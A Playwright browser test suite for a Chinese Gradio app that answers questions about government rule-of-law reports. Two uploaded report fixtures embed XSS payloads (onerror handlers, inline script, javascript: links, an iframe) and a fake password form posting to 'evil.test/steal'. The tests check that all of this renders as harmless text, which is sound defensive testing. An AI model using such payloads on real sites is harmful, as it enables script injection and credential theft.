"""The UI in a real headless Chromium (Debian's `chromium`, driven by Playwright's Python
package; never `playwright install`). One app subprocess serves the whole module."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from tests.ui_server import ROOT, running_app, seed_cache

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                 "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]
ARTIFACTS = ROOT / "tests" / "artifacts"
TOUCHSTONE = "2021年律师事务所引进多少家"
TIMEOUT_MS = 60_000  # generous: CI machines can be busy

XSS_REPORT = """测试市2022年法治政府建设年度报告
一、主要举措和成效
（一）推进行政复议规范化
1.提升复议质效。2022年，测试市共受理行政复议案件77件<img src=x onerror="window.__xss=1">，\
其中调解结案12件<script>window.__xss=2</script>，复议纠错率明显下降。
"""


# Every way report text could turn into markup: tags, handlers, forms, javascript: links,
# Markdown images and links. Nothing of it may become an element or a request.
EVIL = "evil.test"
HOSTILE_REPORT = f"""恶意市2022年法治政府建设年度报告<img src="http://{EVIL}/title.png">
一、主要举措和成效
（一）推进行政复议规范化
1.提升复议质效。2022年，恶意市共受理行政复议案件88件<img src="http://{EVIL}/a.png" \
onerror="window.__xss=1">，其中调解结案13件。
2.加强行政复议宣传。全年开展行政复议宣传活动520场次<form action="http://{EVIL}/steal">\
<input name="pw" placeholder="请输入管理密码"><button>提交</button></form>。
3.规范行政复议执法。行政复议人员持证率达到98%<script>window.__xss=2</script>，\
![宣传图](http://{EVIL}/md.png)。
4.优化行政复议服务。走访企业1500家[点击查看](javascript:window.__xss=3)，\
<a href="javascript:window.__xss=4">详情</a><iframe src="http://{EVIL}/frame"></iframe>。
"""
# Elements that must never appear (anywhere on the page, whichever tab).
FORBIDDEN = (f"img[src*='{EVIL}'], iframe, form, input[name=pw], a[href^='javascript'], "
             f"[onerror], script:not([src]):has-text('__xss')")


def _require_chromium() -> None:
    if CHROMIUM.exists():
        return
    message = f"{CHROMIUM} is missing: apt-get install chromium (.ci/run does)"
    if os.environ.get("CI") == "true":
        pytest.fail(message)
    pytest.skip(message)


@pytest.fixture(scope="module")
def app_server(tmp_path_factory):
    _require_chromium()
    tmp = tmp_path_factory.mktemp("ui-browser")
    # small upload limits, so the guard on Gradio's upload route is cheap to hit
    env = {"FAZHI_MAX_UPLOAD_MB": "1", "FAZHI_MAX_UPLOAD_FILES": "2"}
    with running_app(tmp / "store", tmp / "app.log", seed=seed_cache(tmp_path_factory),
                     env=env) as server:
        yield server


@pytest.fixture(scope="module")
def browser(app_server):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser, app_server, request):
    context = browser.new_context(locale="zh-CN", viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    page.outside_requests = []  # any request not to the app (there must be none)
    page.on("request", lambda r: None if r.url.startswith(("http://127.0.0.1", "data:", "blob:"))
            else page.outside_requests.append(r.url))
    page.set_default_timeout(TIMEOUT_MS)
    page.goto(app_server.url)
    page.wait_for_selector("#question textarea")
    yield page
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
    context.close()


def ask(page, question: str) -> object:
    """Type a question, send it, wait for its final answer; the answer's locator."""
    done = page.locator("#chatbot .fz-final")
    before = done.count()
    page.fill("#question textarea", question)
    page.click("#ask")
    page.wait_for_function(
        "n => document.querySelectorAll('#chatbot .fz-final').length > n", arg=before)
    return done.nth(before)


def upload(page, path: Path) -> str:
    """Upload a file in the knowledge-base tab; the status text."""
    page.get_by_role("tab", name="知识库").click()
    page.set_input_files("#kb-files input[type=file]", str(path))
    page.wait_for_selector(f"#kb-files td.filename[aria-label='{path.name}']")
    page.click("#kb-upload")
    status = page.locator("#kb-status .fz-results")
    status.wait_for()
    return status.inner_text()


def test_touchstone_answer_with_highlighted_source(page):
    answer = ask(page, TOUCHSTONE)
    assert answer.locator(".fz-answer-text").inner_text().startswith("9家")
    source = answer.locator(".fz-source").first
    assert "（四）积极保障经济社会发展" in source.locator(".fz-section").inner_text()
    assert "杭州市余杭区2021年法治政府建设年度报告" in source.locator(".fz-title").inner_text()
    assert "引进律师事务所9家" in source.locator("mark").inner_text()


def test_follow_up_uses_the_history(page, app_server):
    ask(page, TOUCHSTONE)
    follow = ask(page, "那走访了多少家企业？")
    assert "2552家" in follow.locator(".fz-answer-text").inner_text()
    assert page.locator("#chatbot .fz-final").count() == 2
    # The UI passed the first turn as history (app.py -v logs each question).
    assert "'那走访了多少家企业？' (history: 1 turns)" in app_server.log_text()


def test_conversation_survives_a_reload(page):
    stored = "() => localStorage.getItem('fazhi-qa-chat-v1')"
    before = page.evaluate(stored)
    ask(page, TOUCHSTONE)
    page.wait_for_function(f"b => ({stored})() !== b", arg=before)
    page.reload()
    restored = page.locator("#chatbot .fz-final")
    restored.first.locator(".fz-source mark").wait_for()
    assert restored.count() == 1 and "9家" in restored.first.inner_text()


def test_like_is_logged(page, app_server):
    ask(page, TOUCHSTONE)
    page.locator("#chatbot button[aria-label='赞']").last.click()  # 'Like' in zh-CN
    feedback = app_server.store / "feedback.jsonl"
    deadline = time.monotonic() + 20
    while not _lines(feedback) and time.monotonic() < deadline:
        time.sleep(0.1)
    row = json.loads(_lines(feedback)[-1])
    assert row["vote"] == "like" and row["question"] == TOUCHSTONE
    assert "9家" in row["answer"] and row["citations"][0]["n"] == 1 and row["time"]


def _lines(path: Path) -> list[str]:
    """Complete lines of a file being appended to."""
    text = path.read_text(encoding="utf-8") if path.exists() else ""
    return text.splitlines()[:text.count("\n")]


def test_upload_docx_is_listed(page, tmp_path):
    import docx

    doc = docx.Document()
    doc.add_heading("测试县2022年法治政府建设年度报告", level=0)
    doc.add_heading("一、主要举措和成效", level=1)
    doc.add_paragraph("2022年，测试县新建村（社区）法律顾问工作室35个，"
                      "全年开展法治宣传活动420场次。")
    path = tmp_path / "测试县2022年法治政府建设年度报告.docx"
    doc.save(path)

    status = upload(page, path)
    assert "已导入" in status, status
    table = page.locator("#kb-table")
    table.get_by_text("测试县2022年法治政府建设年度报告", exact=True).wait_for()
    assert "测试县2022年法治政府建设年度报告.docx" in table.inner_text()


def test_document_markup_renders_as_text(page, tmp_path):
    path = tmp_path / "测试市2022年法治政府建设年度报告.txt"
    path.write_text(XSS_REPORT, encoding="utf-8")
    assert "已导入" in upload(page, path)

    page.get_by_role("tab", name="问答").click()
    answer = ask(page, "测试市2022年受理了多少件行政复议案件？")
    assert "77件" in answer.locator(".fz-answer-text").inner_text()
    passage = answer.locator(".fz-passage").first.inner_text()
    assert '<img src=x onerror="window.__xss=1">' in passage
    assert "<script>window.__xss=2</script>" in passage
    assert page.evaluate("() => typeof window.__xss") == "undefined"
    assert page.locator("#chatbot img[src='x']").count() == 0
    assert page.locator("#chatbot script").count() == 0


def _assert_inert(page, where: str) -> None:
    page.wait_for_timeout(300)  # let any image or frame start loading
    assert page.locator(FORBIDDEN).count() == 0, where
    assert page.evaluate("() => typeof window.__xss") == "undefined", where
    assert not page.outside_requests, (where, page.outside_requests)


def test_hostile_report_stays_text_in_every_tab(page, tmp_path):
    path = tmp_path / "恶意市2022年法治政府建设年度报告.txt"
    path.write_text(HOSTILE_REPORT, encoding="utf-8")
    assert "已导入" in upload(page, path)
    table = page.locator("#kb-table")
    table.get_by_text("恶意市2022年法治政府建设年度报告", exact=False).first.wait_for()
    _assert_inert(page, "知识库")

    page.get_by_role("tab", name="问答").click()
    answer = ask(page, "恶意市2022年开展行政复议宣传活动多少场次？")
    text = answer.inner_text()
    assert "520场次" in text and f'<form action="http://{EVIL}/steal">' in text
    page.locator("#filter-reports").click()
    _assert_inert(page, "问答")
    page.keyboard.press("Escape")

    page.get_by_role("tab", name="学习材料").click()
    page.fill("#study-topic textarea", "行政复议")
    page.click("#study-brief-go")
    brief = page.locator("#study-brief .fz-study")
    brief.get_by_text("520场次", exact=False).first.wait_for()
    assert f"![宣传图](http://{EVIL}/md.png)" in brief.inner_text()
    assert "[点击查看](javascript:window.__xss=3)" in brief.inner_text()
    _assert_inert(page, "专题资料")

    page.get_by_role("tab", name="测验").click()
    page.fill("#quiz-seed textarea", "abc")
    page.click("#study-quiz-go")
    page.locator("#study-quiz").get_by_text("随机种子应为整数").wait_for()
    page.fill("#quiz-seed textarea", "7")
    page.fill("#quiz-topic textarea", "行政复议")
    page.click("#study-quiz-go")
    page.locator("#study-quiz .fz-study h1").wait_for()
    _assert_inert(page, "测验")


def test_delete_asks_for_confirmation_and_is_audited(page, app_server, tmp_path):
    path = tmp_path / "删除县2023年法治政府建设年度报告.txt"
    path.write_text("删除县2023年法治政府建设年度报告\n一、主要举措和成效\n"
                    "2023年，删除县新建法律援助工作站12个。\n", encoding="utf-8")
    assert "已导入" in upload(page, path)
    table = page.locator("#kb-table")
    table.get_by_text("删除县2023年法治政府建设年度报告", exact=True).wait_for()  # lists refreshed
    choice = page.locator("#kb-delete-choice input")
    choice.click()
    page.locator("#kb-delete-choice [role=option]", has_text="删除县2023年法治政府建设年度报告").click()
    page.click("#kb-delete")
    confirm = page.locator("#kb-confirm-text")
    confirm.get_by_text("确定要删除《删除县2023年法治政府建设年度报告》吗").wait_for()
    page.click("#kb-cancel-delete")
    confirm.wait_for(state="hidden")
    assert "删除县2023年法治政府建设年度报告" in table.inner_text()
    page.click("#kb-delete")
    page.click("#kb-confirm-delete")
    page.locator("#kb-status").get_by_text("已删除：删除县2023年法治政府建设年度报告").wait_for()
    page.wait_for_function("() => !document.querySelector('#kb-table').innerText"
                           ".includes('删除县2023年')")
    rows = [json.loads(line) for line in _lines(app_server.store / "audit.jsonl")]
    assert [r["action"] for r in rows if "删除县" in r["target"]] == ["upload", "delete"]
    assert rows[-1]["client"] == "127.0.0.1"


def test_gradio_upload_route_is_bounded(app_server):
    import urllib.error
    import urllib.request

    def post(size: int) -> int:
        boundary = "fzboundary"
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; "
                f"filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n").encode() \
            + b"x" * size + f"\r\n--{boundary}--\r\n".encode()
        req = urllib.request.Request(app_server.url + "gradio_api/upload", data=body,
                                     headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            with opener.open(req, timeout=30) as r:
                return r.status
        except urllib.error.HTTPError as e:
            return e.code
        except (urllib.error.URLError, ConnectionError):  # refused while still sending
            return 413

    assert post(1000) == 200
    assert post(2 * 1024 * 1024) == 413  # one file over FAZHI_MAX_UPLOAD_MB (Gradio's check)

    # A request declaring more than 2 files x 1 MB is refused before its body is read.
    import http.client
    from urllib.parse import urlparse

    url = urlparse(app_server.url)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
    conn.putrequest("POST", "/gradio_api/upload")
    conn.putheader("Content-Type", "multipart/form-data; boundary=x")
    conn.putheader("Content-Length", str(4 * 1024 * 1024))
    conn.endheaders()
    response = conn.getresponse()
    assert response.status == 413 and "超过" in json.loads(response.read())["error"]
    conn.close()


ENGLISH = ("Liked", "Disliked", "Invalid file type", "not a zip file", "same content as",
           "Empty value", "invalid literal", "Error")


def _serious_axe_violations(page) -> list[str]:
    from axe_playwright_python.sync_playwright import Axe

    results = Axe().run(page)
    return [f"{v['id']}: {[n['target'] for n in v['nodes']][:5]}"
            for v in results.response["violations"] if v["impact"] in ("serious", "critical")]


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_accessible_and_chinese_on_every_tab(page, app_server, theme, tmp_path):
    if theme == "dark":
        page.goto(app_server.url + "?__theme=dark")
        page.wait_for_selector("#question textarea")
    first = ask(page, TOUCHSTONE)
    ask(page, "2030年月球上有多少律师")  # a refusal: its whole text in the subdued colour
    first.locator(".fz-ref-link").first.click()  # the source view is checked too
    page.locator("#source-view-html mark").wait_for()
    page.locator("#chatbot button[aria-label='赞']").last.click()
    page.locator("#chatbot button[aria-label='已赞']").wait_for()
    page.get_by_text("感谢您的反馈").first.wait_for()
    # each message is read as its text, not as an "bot's message: <div …>" label
    labels = page.evaluate("() => [...document.querySelectorAll('#chatbot [aria-label]')]"
                           ".map(e => e.getAttribute('aria-label'))")
    assert not [x for x in labels if "<" in x or "message" in x], labels
    assert page.locator("#chatbot [role=article]").count() >= 4

    broken = tmp_path / "损坏.docx"
    broken.write_bytes(b"this is not a docx")
    status = upload(page, broken)
    assert "不是有效的 Word 文档" in status
    page.get_by_role("tab", name="学习材料").click()
    page.get_by_role("tab", name="测验").click()
    page.fill("#quiz-seed textarea", "abc")
    page.click("#study-quiz-go")
    page.locator("#study-quiz").get_by_text("随机种子应为整数").wait_for()

    for tab in ("问答", "学习材料", "知识库"):
        page.get_by_role("tab", name=tab).click()
        page.wait_for_timeout(300)
        assert _serious_axe_violations(page) == [], (theme, tab)
        visible = page.locator("body").inner_text()
        assert not [w for w in ENGLISH if w in visible], (theme, tab)
    page.get_by_role("tab", name="问答").click()


def test_citation_opens_the_original_at_the_cited_place(page):
    answer = ask(page, TOUCHSTONE)
    ref = answer.locator(".fz-ref-link").first
    assert "引进律师事务所9家" in ref.get_attribute("title")  # hover preview of the quote
    ref.click()
    view = page.locator("#source-view-html")
    view.locator(".fz-view-text mark").wait_for()
    assert "引进律师事务所9家" in view.locator("mark").inner_text()
    assert "（四）积极保障经济社会发展" in view.locator(".fz-breadcrumb").inner_text()
    with page.expect_download() as download:
        page.click("#source-download")
    assert download.value.suggested_filename.endswith(".txt")

    sample = ROOT / "tests" / "fixtures" / "samples" / "明湖区_2023.pdf"
    assert "已导入" in upload(page, sample)
    page.get_by_role("tab", name="问答").click()
    answer = ask(page, "明湖区2023年重大行政决策事项目录列入了几项")
    assert answer.locator(".fz-answer-text").inner_text().startswith("7项")
    answer.locator(".fz-source").first.press("Enter")  # keyboard works as well as a click
    view.locator(".fz-page img").wait_for()
    boxes = view.locator(".fz-box")
    assert boxes.count() >= 2 and "第1页" in view.locator(".fz-breadcrumb").inner_text()
    # the sentence is in the upper half of page 1: where the boxes stand on the page image
    top = boxes.first.evaluate("b => b.offsetTop / b.parentElement.querySelector('img').offsetHeight")
    assert 0.3 < top < 0.5, top
    view.screenshot(path=str(ARTIFACTS / "source_view_pdf_page.png"))


def test_answer_actions_copy_regenerate_feedback_and_follow_ups(page, app_server):
    answer = ask(page, TOUCHSTONE)
    answer.locator(".fz-copy").click()
    answer.get_by_text("已复制").wait_for()
    copied = page.evaluate("() => window.__fzCopied")
    assert copied.startswith("9家") and "出处：\n[1] 杭州市余杭区2021年法治政府建设年度报告" in copied
    assert "原文：行政区划调整后，引进律师事务所9家" in copied and "<" not in copied

    answer.locator(".fz-regen").click()
    regenerated = page.locator("#chatbot .fz-final")
    regenerated.locator(".fz-note").get_by_text("重新生成").wait_for()
    assert regenerated.count() == 1 and regenerated.first.inner_text().startswith("9家")

    buttons = page.locator("#chatbot [class*=message-buttons]").last
    buttons.locator("button[aria-label='反馈原因']").click()
    buttons.get_by_role("button", name="数字不对").click()
    page.get_by_text("感谢您的反馈").first.wait_for()
    deadline = time.monotonic() + 20
    while "数字不对" not in "".join(_lines(app_server.store / "feedback.jsonl")) \
            and time.monotonic() < deadline:
        time.sleep(0.1)
    row = json.loads(_lines(app_server.store / "feedback.jsonl")[-1])
    assert row["vote"] == "数字不对" and row["question"] == TOUCHSTONE

    follow_ups = regenerated.first.locator(".fz-suggest")
    assert 1 <= follow_ups.count() <= 3
    suggestion = follow_ups.first.inner_text()
    follow_ups.first.click()
    page.wait_for_function("() => document.querySelectorAll('#chatbot .fz-final').length == 2")
    assert suggestion in page.locator("#chatbot .fz-question").last.inner_text()


def test_phone_shows_the_headline_and_the_input(browser, app_server):
    context = browser.new_context(locale="zh-CN", viewport={"width": 390, "height": 844},
                                  is_mobile=True, has_touch=True)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    try:
        page.goto(app_server.url)
        page.wait_for_selector("#question textarea")
        page.wait_for_function("() => !document.querySelector('#filters .label-wrap.open')")
        assert not page.locator("#filter-reports").is_visible()  # filters collapsed
        ask(page, TOUCHSTONE)
        latest = ask(page, "余杭区一年走访了多少家企业？")  # a long answer with its source
        page.wait_for_timeout(500)
        headline = latest.locator(".fz-answer-text").bounding_box()
        assert headline["y"] >= 0 and headline["y"] + 20 < 844, headline
        assert latest.locator(".fz-answer-text").inner_text().startswith("2552家")
        box = page.locator("#question textarea").bounding_box()
        assert box["y"] + box["height"] <= 844, box  # the question box without scrolling
        page.screenshot(path=str(ARTIFACTS / "phone_390x844.png"))
    finally:
        context.close()


def test_new_chat_keeps_the_earlier_one_and_exports(page):
    ask(page, TOUCHSTONE)
    page.click("#export-chat")
    files = page.locator("#exported-chat")
    files.get_by_text(".docx").first.wait_for()
    assert ".md" in files.inner_text()
    page.click("#clear")
    page.wait_for_function("() => !document.querySelector('#chatbot .fz-final')")
    ask(page, "余杭区一年走访了多少家企业？")
    page.locator("#earlier-chats input").click()
    page.locator("#earlier-chats [role=option]", has_text=TOUCHSTONE).click()
    page.wait_for_function("t => document.querySelector('#chatbot .fz-question')?.innerText === t",
                           arg=TOUCHSTONE)
    assert page.locator("#chatbot .fz-final").count() == 1
    assert page.locator("#chatbot .fz-final").first.inner_text().startswith("9家")
    page.reload()  # both conversations survive a reload
    page.wait_for_selector("#question textarea")
    page.locator("#chatbot .fz-final").first.wait_for()
    page.locator("#earlier-chats input").click()
    assert page.locator("#earlier-chats [role=option]").count() == 2


def test_indicator_chart_over_two_years(page, app_server):
    """A comparison over two report years: the chart (a PNG with Chinese alt text), its table
    with a header row, a row's source opening the original, the PNG download, axe clean."""
    page.get_by_role("tab", name="知识库").click()
    samples = [ROOT / "tests" / "fixtures" / "samples" / f"明湖区_{y}.txt" for y in (2022, 2023)]
    page.set_input_files("#kb-files input[type=file]", [str(p) for p in samples])
    page.wait_for_selector("#kb-files td.filename[aria-label='明湖区_2023.txt']")
    page.click("#kb-upload")
    page.locator("#kb-status .fz-results").wait_for()
    page.get_by_role("tab", name="问答").click()

    answer = ask(page, "明湖区2022年和2023年引进律师事务所分别多少家")
    chart = answer.locator(".fz-chart")
    image = chart.locator("img.fz-chart-img")
    image.wait_for()
    assert image.evaluate("img => img.complete && img.naturalWidth") > 300
    assert image.get_attribute("alt").startswith("引进律师事务所历年数值折线图")
    rows = chart.locator("table.fz-chart-table tbody tr")
    assert [rows.nth(i).locator("td").nth(2).inner_text() for i in range(rows.count())] \
        == ["5家", "8家"]
    assert chart.locator("th").count() == 4
    chart.screenshot(path=str(ARTIFACTS / "indicator_chart.png"))

    rows.first.locator(".fz-chart-cite").click()  # the 2022 value's source, in the original
    view = page.locator("#source-view-html")
    view.locator("mark").wait_for()
    assert "引进律师事务所5家" in view.locator("mark").inner_text()
    with page.expect_download() as download:
        chart.locator(".fz-chart-png").click()
    assert download.value.suggested_filename.endswith(".png")
    assert _serious_axe_violations(page) == []
    page.goto(app_server.url + "?__theme=dark")  # the conversation comes back, chart included
    page.locator("#chatbot .fz-chart-img").wait_for()
    page.wait_for_timeout(300)
    assert _serious_axe_violations(page) == []


def test_report_filter_holds_for_a_question_without_a_year(page):
    """Issue #16 item 1: a report chosen under 限定报告 bounds the answer even when the
    question names no year (the server used to answer from every report)."""
    for year in (2022, 2023):
        upload(page, ROOT / "tests" / "fixtures" / "samples" / f"明湖区_{year}.txt")
    page.get_by_role("tab", name="问答").click()
    box = page.locator("#filter-reports input")
    box.click()
    box.fill("2022")
    page.get_by_role("option").filter(has_text="明湖区").first.click()
    page.keyboard.press("Escape")
    answer = ask(page, "明湖区引进了多少家律师事务所？")
    assert answer.locator(".fz-answer-text").inner_text().startswith("5家")
    assert all("2022" in t for t in answer.locator(".fz-source .fz-title").all_inner_texts())
